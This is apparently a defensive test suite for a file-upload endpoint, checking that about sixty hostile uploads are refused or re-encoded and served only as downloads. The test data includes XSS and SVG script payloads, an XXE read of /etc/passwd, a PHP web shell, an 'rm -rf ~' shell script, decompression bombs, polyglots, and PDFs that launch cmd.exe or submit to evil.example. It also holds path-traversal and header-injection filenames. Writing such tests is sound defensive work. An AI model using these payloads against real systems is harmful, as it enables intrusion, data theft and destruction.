// Sixty files that somebody could send to be run on another's machine: each is refused, or stored as a plain JPEG or PDF and only ever
// served as a download.
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { calls } from '#contract/calls.ts'
import { type Client, testApp, type TestApp } from '#server/testing/app.ts'

const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const html = `<!doctype html><html><body>${script}</body></html>`
const bytes = (text: string) => Buffer.from(text, 'latin1')

const pixels = { create: { width: 3, height: 2, channels: 3, background: 'red' } } as const
const jpeg = await sharp(pixels).jpeg().toBuffer()
const png = await sharp(pixels).png().toBuffer()
const webp = await sharp(pixels).webp().toBuffer()
const pdf = bytes('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')
const pdfWith = (catalog: string) =>
  bytes(`%PDF-1.7\n1 0 obj<</Type/Catalog${catalog}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
const withExif = (text: string) =>
  sharp(pixels)
    .withExif({ IFD0: { Copyright: text, ImageDescription: text } })
    .jpeg()
    .toBuffer()

/** A PNG that says that it has other dimensions. */
function pngOf(width: number, height: number): Buffer {
  const changed = Buffer.from(png)
  changed.writeUInt32BE(width, 16)
  changed.writeUInt32BE(height, 20)
  changed.writeUInt32BE(crc32(changed.subarray(12, 29)), 29)
  return changed
}

/** A ZIP with these files. */
function zip(files: Readonly<Record<string, Buffer>>): Buffer {
  const [locals, directory]: [Buffer[], Buffer[]] = [[], []]
  for (const [name, content] of Object.entries(files)) {
    const packed = deflateRawSync(content)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(content), 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(content.length, 18)
    facts.writeUInt16LE(name.length, 22)
    const offset = Buffer.alloc(18)
    offset.writeUInt32LE(Buffer.concat(locals).length, 14)
    directory.push(bytes('PK\x01\x02\x14\x00'), facts, offset.subarray(4), bytes(name))
    locals.push(bytes('PK\x03\x04'), facts, bytes(name), packed)
  }
  const [front, central] = [Buffer.concat(locals), Buffer.concat(directory)]
  const end = Buffer.alloc(18)
  end.writeUInt16LE(Object.keys(files).length, 4)
  end.writeUInt16LE(Object.keys(files).length, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(front.length, 12)
  return Buffer.concat([front, central, bytes('PK\x05\x06'), end])
}
const types = Buffer.from(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
)
const zeros = Buffer.alloc(50_000_000)
const docx = (body: Buffer, more: Record<string, Buffer> = {}) =>
  zip({ '[Content_Types].xml': types, 'word/document.xml': body, ...more })

const refused: readonly [string, string, Buffer][] = [
  ['an SVG with a script', 'card.svg', bytes(svg)],
  ['an SVG with a declaration', 'card.svg', bytes(`<?xml version="1.0"?>${svg}`)],
  ['an SVG named as a picture', 'card.jpg', bytes(svg)],
  [
    'an SVG with a foreign object',
    'card.png',
    bytes(`<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`),
  ],
  [
    'an SVG with an external entity',
    'card.svg',
    bytes(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
  ],
  ['an SVG that was packed', 'card.svgz', gzipSync(svg)],
  ['an SVG in UTF-16', 'card.svg', Buffer.from(`\ufeff${svg}`, 'utf16le')],
  ['HTML', 'card.html', bytes(html)],
  ['HTML named as a PDF', 'card.pdf', bytes(html)],
  ['HTML named as a picture', 'card.jpeg', bytes(html)],
  ['HTML after spaces', 'card.jpg', bytes(`${' '.repeat(2000)}${html}`)],
  ['HTML after a byte order mark', 'card.jpg', Buffer.from(`\ufeff${html}`)],
  ['HTML in UTF-16', 'card.jpg', Buffer.from(`\ufeff${html}`, 'utf16le')],
  ['HTML in UTF-7', 'card.txt', bytes('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['HTML after the beginning of a GIF', 'card.gif', bytes(`GIF89a${html}`)],
  ['HTML after the beginning of a PNG', 'card.png', Buffer.concat([png.subarray(0, 8), bytes(html)])],
  ['HTML after the beginning of a JPEG', 'card.jpg', Buffer.concat([jpeg.subarray(0, 4), bytes(html)])],
  ['HTML after the beginning of a WebP', 'card.webp', Buffer.concat([webp.subarray(0, 16), bytes(html)])],
  ['HTML before a PDF', 'card.pdf', Buffer.concat([bytes(html), pdf])],
  ['XHTML', 'card.xhtml', bytes(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
  ['XML with a style sheet', 'card.xml', bytes('<?xml-stylesheet href="javascript:alert(1)"?><x/>')],
  ['a web archive', 'card.mht', bytes(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${html}`)],
  ['JavaScript', 'card.js', bytes('alert(1)')],
  ['a script of PHP', 'card.php', bytes('<?php system($_GET["c"]); ?>')],
  ['a script of a shell', 'card.sh', bytes('#!/bin/sh\nrm -rf ~\n')],
  ['a shortcut', 'card.url', bytes('[InternetShortcut]\nURL=javascript:alert(1)\n')],
  ['a program for Windows', 'card.pdf.exe', bytes(`MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0`)],
  ['a program for Linux', 'card.jpg', bytes(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`)],
  ['a program for every browser', 'card.wasm', bytes('\0asm\x01\0\0\0')],
  ['a Flash film', 'card.swf', bytes('FWS\x06\x20\0\0\0')],
  [
    'a GIF',
    'card.jpg',
    bytes('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'),
  ],
  ['a BMP', 'card.jpg', bytes(`BM${'\0'.repeat(60)}`)],
  ['a TIFF', 'card.jpg', await sharp(pixels).tiff().toBuffer()],
  ['an icon', 'card.ico', bytes('\0\0\x01\0\x01\0\x01\x01\0\0\x01\0\x18\0\x30\0\0\0\x16\0\0\0')],
  ['PostScript', 'card.pdf', bytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
  ['a ZIP', 'card.zip', zip({ 'a.txt': bytes('a') })],
  ['a ZIP bomb', 'card.pdf', zip({ 'zeros.bin': zeros })],
  ['a bomb of Word', 'card.docx', docx(zeros)],
  ['a document of Word with macros', 'card.docm', docx(bytes('<w/>'), { 'word/vbaProject.bin': bytes('macro') })],
  ['a bomb of Excel', 'card.xlsx', zip({ '[Content_Types].xml': types, 'xl/worksheets/sheet1.xml': zeros })],
  ['a former document of Word', 'card.doc', bytes(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`)],
  ['a rich text', 'card.rtf', bytes('{\\rtf1{\\object\\objocx x}}')],
  ['a packed bomb', 'card.pdf', gzipSync(zeros)],
  ['a PNG that claims to be enormous', 'card.png', pngOf(60_000, 60_000)],
  ['a PNG without width', 'card.png', pngOf(0, 2)],
  ['a picture that was cut off', 'card.jpg', jpeg.subarray(0, jpeg.length / 2)],
  ['nothing', 'card.pdf', Buffer.alloc(0)],
  ['zeros', 'card.jpg', Buffer.alloc(5000)],
]

const stored: readonly [string, string, Buffer, 'image/jpeg' | 'application/pdf'][] = [
  ['a picture with a script in its metadata', 'card.jpg', await withExif(script), 'image/jpeg'],
  ['a picture with PHP in its metadata', 'card.php.jpg', await withExif('<?php system(1) ?>'), 'image/jpeg'],
  ['a picture with HTML after it', 'card.html', Buffer.concat([jpeg, bytes(html)]), 'image/jpeg'],
  [
    'a picture with an archive after it',
    'card.jar',
    Buffer.concat([png, zip({ 'A.class': bytes('code') })]),
    'image/jpeg',
  ],
  ['a picture with a PDF after it', 'card.pdf', Buffer.concat([webp, pdf]), 'image/jpeg'],
  ['a picture named as a page', 'card.jpg.html', png, 'image/jpeg'],
  ['a PDF with JavaScript', 'card.pdf', pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'application/pdf'],
  ['a PDF that starts a program', 'card.pdf', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'application/pdf'],
  ['a PDF that sends a form', 'card.pdf', pdfWith('/AA<</S/SubmitForm/F(http://evil.example)>>'), 'application/pdf'],
  ['a PDF with HTML after it', 'card.html', Buffer.concat([pdf, bytes(html)]), 'application/pdf'],
  ['a PDF that is a ZIP too', 'card.jar', Buffer.concat([pdf, zip({ 'A.class': bytes('code') })]), 'application/pdf'],
  ['a name that reads backwards', 'card\u202Efdp.exe', pdf, 'application/pdf'],
  ['a name with a nul byte', 'card.php\u0000.pdf', pdf, 'application/pdf'],
  ['a name with line breaks', 'card"\r\nset-cookie: a=b\r\n.pdf', pdf, 'application/pdf'],
  ['a name that leads elsewhere', '../../../etc/passwd', pdf, 'application/pdf'],
  ['a name that leads elsewhere on Windows', '..\\..\\windows\\card.exe', pdf, 'application/pdf'],
  ['a name of markup', '<img src=x onerror=alert(1)>.pdf', pdf, 'application/pdf'],
  ['a very long name', `${'a'.repeat(5000)}.exe`, pdf, 'application/pdf'],
  ['a long name that ends within a sign', `${'a'.repeat(79)}👩‍👩‍👧‍👦.exe`, pdf, 'application/pdf'],
  ['no name but an extension', '.htaccess', pdf, 'application/pdf'],
]

let app: TestApp
let admin: Client
let type_id: string

beforeAll(async () => {
  app = await testApp()
  admin = await app.as('admin')
  const type = { kind: 'document', code: 'CARD', name: 'Card' } as const
  type_id = (await admin.call(calls.documentTypes.store, type)).id
})
afterAll(() => app.close())

const submit = (filename: string, content: Buffer) =>
  admin.upload(calls.documents.submit, { id: app.world.ava, type_id }, { filename, bytes: content })

describe('refused is', () => {
  test.each(refused)('%s', async (_, filename, content) => {
    await expect(submit(filename, content)).rejects.toMatchObject({ status: 422, fields: { file: expect.anything() } })
  })
})

describe('stored, and served as a download only, is', () => {
  test.each(stored)('%s', async (_, filename, content, content_type) => {
    const { id, file_name } = await submit(filename, content)

    const response = await app.app.inject({
      method: 'POST',
      url: `/api${calls.documents.file.path}?id=${id}`,
      headers: { authorization: `Bearer ${admin.token}` },
    })

    expect(response.statusCode).toBe(200)
    expect(response.headers).toMatchObject({
      'content-type': content_type,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'private, no-store',
    })
    expect(response.headers['set-cookie']).toBeUndefined()
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="[\w.-]+\.(jpg|pdf)"; filename\*=UTF-8''[^\s"<>/\\]+\.(jpg|pdf)$/,
    )
    expect(file_name).toMatch(content_type === 'image/jpeg' ? /\.jpg$/ : /\.pdf$/)
    // No path, no control characters, none that change the direction of what follows.
    expect(file_name).not.toMatch(/[/\\\p{Cc}\u202A-\u202E\u2066-\u2069\u200E\u200F]/u)
    expect(file_name?.length).toBeLessThan(90)
    if (content_type === 'image/jpeg') {
      expect(response.rawPayload.subarray(0, 3)).toEqual(jpeg.subarray(0, 3))
      expect(response.rawPayload.toString('latin1')).not.toMatch(/script|<\?php|PK\x03\x04|%PDF|Exif/)
    } else expect(response.rawPayload).toEqual(content)
  })
})
